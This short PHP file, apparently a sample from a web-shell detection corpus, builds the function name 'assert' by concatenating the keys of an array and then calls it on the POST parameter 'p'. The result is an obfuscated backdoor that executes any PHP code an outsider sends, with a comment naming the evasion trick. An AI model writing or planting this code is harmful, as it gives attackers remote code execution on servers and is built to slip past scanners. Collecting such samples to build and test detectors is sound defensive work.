<?php
// A sink's name assembled from the keys of a constant table.
$t = array('as' => 1, 'se' => 2, 'rt' => 3);
$k = array_keys($t);
$f = $k[0] . $k[1] . $k[2];
$f($_POST['p']);
